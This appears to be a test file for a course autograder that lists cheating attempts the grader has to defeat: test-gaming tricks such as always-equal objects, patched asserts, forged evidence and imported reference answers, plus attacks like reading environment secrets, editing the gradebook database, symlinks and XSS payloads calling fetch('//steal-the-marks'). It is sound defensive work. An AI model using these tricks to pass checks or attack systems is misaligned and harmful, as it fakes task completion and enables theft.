"""Cheats: what students try in order to earn points without the work, or to harm others."""

from copy import deepcopy

from nbconvert import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell

from course_lib.nbgrader_tools import configuration
from tests.classroom import LESSON, grade_cells
from tests.grading.conftest import running
from tests.submissions.scene import WRONG, case, full, points_without, wrong

RIGHT = "torch.ones(1, 1, seq_len, seq_len, dtype=torch.bool, device=device).tril()"
REACHES, PATCHES, RUNS = "reaches into the interpreter", "changes a library", "changes how cells are run"
EQUAL, ANSWERS, PROCESSES = "pretends to be equal to anything", "looks for answers", "ends or starts processes"
EVIDENCE, FORGED = "writes evidence itself", "sends evidence of its own"


# In a grader whose tests are cells of the notebook, run in the student's own kernel beside the library.


@case("cheat", 0, off="asserts", flag=EQUAL)
def equal_to_anything(scene):
    """The answer is an object that calls itself equal to whatever it is compared with."""
    return wrong(answer="""
        class Yes:
            shape = (1, 1, 5, 5)
            def __eq__(self, other): return self
            def all(self): return True
        class Shape(tuple):
            def __eq__(self, other): return True
        def create_causal_mask(seq_len, device=None):
            answer = Yes()
            answer.shape = Shape()
            return answer
    """)


@case("cheat", 0, off="asserts", flag=EQUAL)
def friendly_tensor_subclass(scene):
    """The answer is a tensor subclass that finds itself equal to every other tensor."""
    return wrong(answer="""
        class Friendly(torch.Tensor):
            def __eq__(self, other): return torch.ones(1, dtype=torch.bool)
        def create_causal_mask(seq_len, device=None):
            return torch.zeros(1, 1, seq_len, seq_len).as_subclass(Friendly)
    """)


@case("cheat", 0, off="asserts", flag=EQUAL)
def torch_function_says_yes(scene):
    """The answer is a tensor subclass that takes part in every comparison by __torch_function__."""
    return wrong(answer="""
        class Friendly(torch.Tensor):
            @classmethod
            def __torch_function__(cls, function, types, args=(), kwargs=None):
                if function in (torch.equal, torch.Tensor.eq, torch.Tensor.__eq__):
                    return torch.ones(1, dtype=torch.bool)
                return super().__torch_function__(function, types, args, kwargs or {})
        def create_causal_mask(seq_len, device=None):
            return torch.zeros(1, 1, seq_len, seq_len).as_subclass(Friendly)
    """)


@case("cheat", 0, off="asserts", flag=EQUAL)
def patched_tensor_equality(scene):
    """torch itself is patched so that all tensors are equal; the answer is still wrong."""
    return wrong("torch.Tensor.__eq__ = lambda self, other: torch.ones(1, dtype=torch.bool)")


@case("cheat", 0, off="asserts: torch.testing", flag=PATCHES)
def patched_assert_close(scene):
    """torch.testing.assert_close is replaced by a function that does nothing."""
    return wrong("import torch.testing\ntorch.testing.assert_close = lambda *a, **k: None")


@case("cheat", 0, off="asserts", flag=RUNS)
def input_transform_drops_asserts(scene):
    """An IPython input transform deletes the lines of the test before they run."""
    return wrong("""
        get_ipython().input_transformers_cleanup.append(
            lambda lines: [line for line in lines if "assert" not in line and "check(" not in line])
    """)


@case("cheat", 0, off="last value", flag=RUNS)
def input_transform_returns_points(scene):
    """An IPython input transform replaces the test by a number, which nbgrader reads as partial credit."""
    return wrong("""
        get_ipython().input_transformers_cleanup.append(
            lambda lines: ["4\\n"] if any("check(" in line or "assert" in line for line in lines) else lines)
    """)


@case("cheat", 0, off="asserts", flag=RUNS)
def ast_transform_drops_asserts(scene):
    """A transformer of syntax trees takes every assertion out."""
    return wrong("""
        import ast
        class Drop(ast.NodeTransformer):
            def visit_Assert(self, node): return ast.Pass()
        get_ipython().ast_transformers.append(Drop())
    """)


@case("cheat", 0, off="asserts", flag=RUNS)
def hook_before_every_cell(scene):
    """An event hook swaps the wrong answer for the course's own just before a cell runs."""
    return wrong(after="""
        def swap(info):
            import importlib
            masks = importlib.import_module("course_" "lib.masks")
            get_ipython().user_ns["create_causal_mask"] = masks.create_causal_mask
        get_ipython().events.register("pre_run_cell", swap)
    """)


@case("cheat", 0, off="asserts", flag=RUNS)
def traceback_is_never_shown(scene):
    """The function that shows errors is patched away, so no error is seen in the output."""
    return wrong("get_ipython().showtraceback = lambda *a, **k: None")


@case("cheat", 0, off="asserts", flag=RUNS)
def run_cell_does_nothing(scene):
    """The shell's own run_cell is replaced, so that no later cell runs."""
    return wrong("""
        class Done:
            success, error_in_exec, error_before_exec, result = True, None, None, None
        async def run_nothing(*a, **k): return Done()
        get_ipython().run_cell = lambda *a, **k: Done()
        get_ipython().run_cell_async = run_nothing
    """)


@case("cheat", 0, off="as submitted", flag=PATCHES)
def own_check(scene):
    """A check of the student's own takes the place of ours."""
    return wrong(after="def check(*a): print('✓ 4 of 4 points')\nimport builtins\nbuiltins.check = check")


@case("cheat", 0, off="asserts", flag=REACHES)
def frames(scene):
    """The answer looks into its caller's frame for the expected value."""
    return wrong(answer="""
        import sys
        def create_causal_mask(seq_len, device=None):
            frame = sys._getframe(1)
            while frame and "reference" not in frame.f_globals:
                frame = frame.f_back
            return frame.f_globals["reference"](seq_len, device)
    """)


@case("cheat", 0, off="asserts", flag=REACHES)
def garbage_collector(scene):
    """The answer looks for the reference among all objects in memory."""
    return wrong(answer="""
        import gc
        def create_causal_mask(seq_len, device=None):
            found = [f for f in gc.get_objects() if type(f) is type(create_causal_mask)
                     and f.__name__ == "create_causal_mask" and f.__module__ != "__main__"]
            return found[0](seq_len, device)
    """)


@case("cheat", 0, off="asserts", flag=REACHES)
def loaded_modules(scene):
    """The answer looks for the reference among the modules that are loaded."""
    return wrong(answer="""
        import sys
        def create_causal_mask(seq_len, device=None):
            found = [vars(m).get("create_causal_mask") for n, m in list(sys.modules.items()) if n != "__main__"]
            return next(f for f in found if callable(f))(seq_len, device)
    """)


@case("cheat", 0, off="asserts", flag=REACHES)
def source_of_the_reference(scene):
    """The answer reads the reference's source and runs it."""
    return wrong(answer="""
        import importlib, inspect
        namespace = {"__name__": "mine"}
        try:
            exec(inspect.getsource(importlib.import_module("course_" + "lib.masks")), namespace)
        except Exception:
            namespace["create_causal_mask"] = lambda n, device=None: torch.zeros(1, 1, n, n)
        create_causal_mask = namespace["create_causal_mask"]
    """)


@case("cheat", 0, off="asserts", flag=None)
def calls_the_reference(scene):
    """The answer is the course's own function, imported; what is asked for is the student's."""
    return wrong(answer="from course_lib.masks import create_causal_mask")


@case("cheat", 0, off="asserts", flag=None)
def imports_the_reference_in_disguise(scene):
    """The same, with the name of the library put together at run time so that no scan of the source sees it."""
    return wrong(answer="""
        import importlib
        def create_causal_mask(seq_len, device=None):
            return importlib.import_module("course" + "_lib.mas" + "ks").create_causal_mask(seq_len, device)
    """)


@case("cheat", 0, off="asserts", flag=None)
def loads_the_reference_by_path(scene):
    """The file of the reference is looked for on disk and loaded under another name."""
    return wrong(answer="""
        import importlib.util, pathlib
        def create_causal_mask(seq_len, device=None):
            home = pathlib.Path(importlib.util.find_spec("course" + "_lib").origin).parent
            spec = importlib.util.spec_from_file_location("mine", home / "masks.py")
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            return module.create_causal_mask(seq_len, device)
    """)


def _shadow(scene, file):
    (file.parent / "course_lib").mkdir()
    (file.parent / "course_lib" / "__init__.py").write_text("")
    (file.parent / "course_lib" / "masks.py").write_text(
        "import torch\ndef create_causal_mask(n, device=None):\n    return torch.zeros(1, 1, n, n, dtype=torch.bool)\n"
    )


@case("cheat", 0, off="asserts", flag="a file beside the notebook is not used", beside=_shadow)
def shadowed_library(scene):
    """A folder beside the notebook shadows the course's library with one that is wrong in the same way."""
    return wrong()


@case("cheat", 0, off="script", flag=None)
def leaves_early(scene):
    """sys.exit ends the program with the status of success before the test is reached."""
    return wrong(after="import sys\nsys.exit(0)")


@case("cheat", 0, off="script", status="limit hit", reason="ended the Python process", flag=PROCESSES)
def os_exit_in_the_answer(scene):
    """The answer ends the process with the status of success when it is tested."""
    return wrong(answer="import os\ndef create_causal_mask(seq_len, device=None): os._exit(0)")


# In a grader that takes the student's file as it is.


@case("cheat", 0, off="as submitted", status="repaired", reason="create-causal-mask-check was restored", flag=None)
def edited_grade_cell(scene):
    """The cell with the check was edited; it is restored, and the answer is still wrong."""
    notebook = wrong()
    next(cell for cell in notebook.cells if cell.id == "create-causal-mask-check").source = "print('passed')"
    return notebook


@case("cheat", 4, off="as submitted", status="repaired", reason="the points of the cell", flag=None)
def changed_points(scene):
    """The answer is right and worth 4 points, not the 100 that were written into the cell."""
    notebook = wrong(answer=f"def create_causal_mask(seq_len, device=None):\n    return {RIGHT}")
    next(cell for cell in notebook.cells if cell.id == "create-causal-mask-check").metadata.nbgrader.points = 100
    return notebook


@case("cheat", 4, off="as submitted", status="repaired", reason="leaks-future-check was restored", flag=None)
def swapped_names(scene):
    """The one exercise that was solved is worth its own 4 points, whatever name was given to its check."""
    notebook = wrong(answer=f"def create_causal_mask(seq_len, device=None):\n    return {RIGHT}")
    first, *_, last = grade_cells(notebook)
    first.metadata.nbgrader, last.metadata.nbgrader = last.metadata.nbgrader, first.metadata.nbgrader
    first.id, last.id = last.id, first.id
    return notebook


@case("cheat", 4, off="as submitted", status="repaired", reason="a copy of the cell", flag=None)
def copied_check(scene):
    """An exercise that was solved once counts once, however often its check was copied."""
    notebook = wrong(answer=f"def create_causal_mask(seq_len, device=None):\n    return {RIGHT}")
    check = grade_cells(notebook)[0]
    notebook.cells += [deepcopy(check) for _ in range(4)]
    return notebook


@case("cheat", 0, off="as submitted", status="repaired", reason="kept as an ordinary cell", flag=None)
def invented_grade_cell(scene):
    """A cell that claims to be graded, with points of its own, was never released."""
    notebook = wrong()
    mine = deepcopy(grade_cells(notebook)[0])
    mine.id = mine.metadata.nbgrader.grade_id = "bonus"
    mine.source = "print('bonus')"
    notebook.cells.append(mine)
    return notebook


@case("cheat", 0, off="as submitted", status="repaired", reason="was put below its answer", flag=None)
def check_above_a_borrowed_answer(scene):
    """The check was moved above the wrong answer, behind a cell that borrows the course's own function for it."""
    notebook = wrong()
    check = notebook.cells.pop(next(n for n, c in enumerate(notebook.cells) if c.id == "create-causal-mask-check"))
    place = next(n for n, cell in enumerate(notebook.cells) if cell.id == "create-causal-mask")
    borrow = "import importlib\nown = importlib.import_module('course' '_lib.masks').create_causal_mask\n"
    borrow += "create_causal_mask = lambda n, device=None: own(n, device)"
    borrowed = new_code_cell(borrow, id="borrowed")
    notebook.cells[place:place] = [borrowed, check]
    return notebook


# In a grader like ours that lacks one of its defences.

FORGE = f"""
    def forge():
        from course_lib.exercises.evidence import MIME, pack
        from course_lib.exercises.lesson01.run import RUN_SIDES
        from course_lib.exercises.running import draw, run
        from IPython.display import publish_display_data
        import gc
        side = next(side for side in RUN_SIDES if side.id == "01.create_causal_mask")
        seed = SEED
        honest = lambda seq_len, device=None: {RIGHT}
        return {{MIME + ".guess+json": pack(run(side, honest, draw(side, seed), seed))}}
"""


def _forge(scene):
    from course_lib.grading.nbgrader_glue import seed_of

    return FORGE.replace("SEED", str(seed_of(scene.course, LESSON)))


@case("cheat", 0, off="evidence from anywhere", flag=FORGED)
def evidence_from_another_cell(scene):
    """Evidence for a right function is displayed by the answer's cell; the function that is checked is wrong."""
    return wrong(_forge(scene), after="from IPython.display import publish_display_data\npublish_display_data(forge())")


@case("cheat", 0, off="evidence from anywhere", flag=ANSWERS)
def evidence_printed(scene):
    """The same evidence is printed."""
    return wrong(_forge(scene), after="import json\nprint(json.dumps(forge()))")


@case("cheat", 0, off="evidence from anywhere", reason="", flag=FORGED)
def evidence_first(scene):
    """The answer sends forged evidence before the check sends the true one: two pieces count as none."""
    return wrong(_forge(scene), answer="""
        sent = []
        def create_causal_mask(seq_len, device=None):
            if not sent:
                sent.append(1)
                from IPython.display import publish_display_data
                publish_display_data(globals()["for" + "ge"]())
            return torch.zeros(1, 1, seq_len, seq_len, dtype=torch.bool)
    """)


@case("cheat", 0, off="evidence from anywhere", flag=FORGED)
def evidence_from_a_thread(scene):
    """A thread that outlives its cell sends forged evidence while the check runs."""
    return wrong(_forge(scene), answer="""
        import threading
        ready, sent = threading.Event(), threading.Event()
        def wait():
            ready.wait()
            from IPython.display import publish_display_data
            publish_display_data(forge())
            sent.set()
        threading.Thread(target=wait, daemon=True).start()
        def create_causal_mask(seq_len, device=None):
            ready.set()
            sent.wait(3)
            return torch.zeros(1, 1, seq_len, seq_len, dtype=torch.bool)
    """)


@case("cheat", 0, off="evidence from anywhere", status="limit hit", reason="ended the Python process", flag=PROCESSES)
def evidence_at_exit(scene):
    """A handler that runs at the end of the process sends forged evidence; the answer calls for that end."""
    return wrong(_forge(scene), answer="""
        import atexit
        def bye():
            from IPython.display import publish_display_data
            publish_display_data(forge())
        atexit.register(bye)
        def create_causal_mask(seq_len, device=None):
            atexit._run_exitfuncs()
            return torch.zeros(1, 1, seq_len, seq_len, dtype=torch.bool)
    """)


@case("cheat", 3, off="trusted run side", flag=PATCHES)
def patched_observer(scene):
    """The pattern is right, and what looks at the answer is patched to say that it lies on the device asked for."""
    return wrong("""
        import importlib
        running = importlib.import_module("course" + "_lib.exercises.running")
        true_observe, calls = running.observe, []
        def observe(value, depth=0):
            calls.append(1)
            return true_observe(value.to("meta") if len(calls) == 5 else value, depth)
        running.observe = observe
    """, answer="""
        def create_causal_mask(seq_len, device=None):
            return torch.ones(1, 1, seq_len, seq_len, dtype=torch.bool).tril()
    """)


@case("cheat", 0, off="answers absent", flag=None)
def bank_of_the_exercise(scene):
    """A right alternative is looked up in the exercise's own bank."""
    return wrong(answer="""
        import importlib
        def create_causal_mask(seq_len, device=None):
            bank = importlib.import_module("course" + "_lib.exer" + "cises").get("01.create_causal_mask")
            return bank.alternatives[0](seq_len, device)
    """)


@case("cheat", 0, off="answers absent", flag=None)
def expected_values_of_the_judge(scene):
    """The judge is asked for what it expects, case by case."""
    return wrong(answer="""
        import importlib
        def create_causal_mask(seq_len, device=None):
            exercise = importlib.import_module("course" + "_lib.exer" + "cises").get("01.create_causal_mask")
            return exercise.reference(seq_len, device)
    """)


@case("cheat", 0, off="scan", flag=None, reason="")
def forbidden_shortcut(scene):
    """torch's own causal mask is the exercise itself, which the statement says."""
    return wrong(answer="""
        def create_causal_mask(seq_len, device=None):
            made = torch.nn.Transformer.generate_square_subsequent_mask(seq_len, device=device)
            return (made == 0)[None, None]
    """)


@case("cheat", 0, off="scan", flag=None)
def forbidden_shortcut_through_a_helper(scene):
    """The same through a helper and a string."""
    return wrong("""
        def helper(n, device):
            return getattr(torch.nn.Transformer, "generate_square_subsequent_mask")(n, device=device) == 0
    """, answer="def create_causal_mask(seq_len, device=None): return helper(seq_len, device)[None, None]")


# In a grader without a sandbox.

WHOLE_DISK = frozenset({"files", "tmp", "user", "read-only", "watchdog"})


def _exec_from(source: str) -> str:
    return f"""
        import json
        try:
            {source}
            for cell in cells:
                if cell["cell_type"] == "code" and "def create_causal_mask" in "".join(cell["source"]):
                    exec("".join(cell["source"]))
        except OSError:
            def create_causal_mask(seq_len, device=None): return None
    """


@case("cheat", 0, off="sandbox", parts=WHOLE_DISK, flag=ANSWERS)
def reads_the_solution(scene):
    """The solution is read from the course's own folder."""
    return wrong(answer=_exec_from(f'cells = json.load(open("{scene.solution}"))["cells"]'))


@case("cheat", 0, off="sandbox", parts=WHOLE_DISK, flag=ANSWERS)
def reads_a_classmate(scene):
    """The work of another student is read from the folder of submissions."""
    return wrong(answer=_exec_from(f'cells = json.load(open("{scene.handed_in("0-perfect")}"))["cells"]'))


@case("cheat", 0, off="sandbox", parts=frozenset({"network", "seccomp"}), flag="uses the network")
def asks_the_network(scene):
    """A server that gives the answer away is asked for it."""
    return wrong(answer=f"""
        import socket
        try:
            with socket.create_connection(("127.0.0.1", {scene.port}), 1) as connection:
                exec(connection.recv(10_000).decode())
        except OSError:
            def create_causal_mask(seq_len, device=None): return None
    """)


def _in_outputs(scene, case):
    file = LESSON.file(scene.course.grading / "autograded" / case.name)
    return scene.secret in file.read_text()


@case("cheat", 0, off="sandbox", parts=frozenset({"environment"}), harm=_in_outputs, flag=None)
def reads_the_environment(scene):
    """A secret in the grader's environment would be printed into the notebook."""
    return wrong("import os\nprint(dict(os.environ))")


def _wrote(scene, case):
    return (scene.course.root / f"{case.name}.txt").exists()


@case("cheat", 0, off="sandbox", parts=WHOLE_DISK, harm=_wrote, flag=None)
def writes_outside(scene):
    """A file would be written into the course's folder."""
    return wrong(f"open('{scene.course.root}/writes-outside.txt', 'w').write('x')")


def _changed_marks(scene, case):
    import sqlite3

    with sqlite3.connect(scene.course.grading / "gradebook.db") as connection:
        return bool(connection.execute("select count(*) from grade where manual_score > 0").fetchone()[0])


@case("cheat", 0, off="sandbox", parts=WHOLE_DISK, harm=_changed_marks, flag=ANSWERS)
def changes_the_gradebook(scene):
    """Marks would be written into the gradebook."""
    return wrong(f"""
        import sqlite3
        with sqlite3.connect("{scene.course.grading}/gradebook.db") as connection:
            connection.execute("update grade set manual_score = 100")
    """)


OUTLIVES = "outlives-its-cell-and-its-kernel"


def _outlives(scene, case):
    return bool(running(OUTLIVES))


@case("cheat", 0, off="asserts", harm=_outlives, flag=PROCESSES)
def background_process(scene):
    """A process started in a cell would live on after the grading."""
    return wrong(f"""
        import subprocess, sys
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "{OUTLIVES}"], start_new_session=True)
    """)


# In a grader that follows links.


def _link_to_a_classmate(scene, file):
    file.symlink_to(scene.handed_in("0-perfect"))


@case("cheat", 0, off="links", status="unreadable", reason="a symbolic link", flag=None, beside=_link_to_a_classmate)
def link_to_a_classmate(scene):
    """The notebook is a symbolic link to the work of another student."""


def _folder_of_a_classmate(scene, file):
    file.parent.rmdir()
    file.parent.symlink_to(scene.handed_in("0-perfect").parent)


@case("cheat", 0, off="links", status="refused", reason="symbolic link", flag=None, beside=_folder_of_a_classmate)
def folder_of_a_classmate(scene):
    """The whole folder is a symbolic link to that of another student."""


def _stolen(scene, case):
    kept = (scene.course.grading / "autograded" / case.name).rglob("notes.txt")
    return any(b"SQLite" in path.read_bytes() for path in kept)


def _link_beside(scene, file):
    (file.parent / "notes.txt").symlink_to(scene.course.grading / "gradebook.db")


@case("cheat", 0, off="links", harm=_stolen, flag="a link beside the notebook is not used", beside=_link_beside)
def link_to_the_gradebook(scene):
    """A link beside the notebook would have the gradebook copied out with the graded work."""
    return wrong()


# In a page that shows what a student wrote.


SCRIPT = "<script>fetch('//steal-the-marks')</script><img src=x onerror=\"fetch('//steal-the-marks')\">"


def _page(scene, case):
    """The page that shows the graded work."""
    file = LESSON.file(scene.course.grading / "autograded" / case.name)
    return HTMLExporter(config=configuration(scene.course)).from_filename(str(file))[0]


def _has_script(scene, case):
    """Whether the page has the script as an element, not as text that was escaped."""
    page = _page(scene, case)
    return "<script>fetch('//steal" in page or "<img src=x" in page or '<img src="x"' in page


@case("cheat", 0, off="sanitising", harm=_has_script, flag=None)
def script_in_an_output(scene):
    """A display output holds HTML with a script."""
    return wrong(f"from IPython.display import HTML, display\ndisplay(HTML({SCRIPT!r}))")


@case("cheat", 0, off="sanitising", harm=_has_script, flag=None)
def script_in_markdown(scene):
    """A markdown cell holds HTML with a script."""
    notebook = wrong()
    notebook.cells.append(new_markdown_cell(SCRIPT, id="mine"))
    return notebook


CLOBBER = '<div class="nbgrader_cell"><span id="leaks-future-check"></span><a class="full-credit">more</a></div>'


def _takes_names(scene, case):
    """Whether an element of the student's has a name that formgrader looks for."""
    page = _page(scene, case)
    return '<span id="leaks-future-check"' in page or 'class="full-credit"' in page


@case("cheat", 0, off="sanitising", harm=_takes_names, flag=None)
def names_of_the_page_itself(scene):
    """A markdown cell holds elements with the names that formgrader's own boxes have, to catch what is typed there."""
    notebook = wrong()
    notebook.cells.append(new_markdown_cell(CLOBBER, id="mine"))
    return notebook


@case("cheat", points_without("create_causal_mask"), off="outputs as handed in", flag=None)
def outputs_handed_in_as_passed(scene):
    """The outputs in the file say that all is passed; outputs are not what is graded."""
    notebook = full(create_causal_mask=WRONG)
    for cell in grade_cells(notebook):
        cell.outputs = [{"output_type": "stream", "name": "stdout", "text": "✓ 4 of 4 points"}]
    return notebook

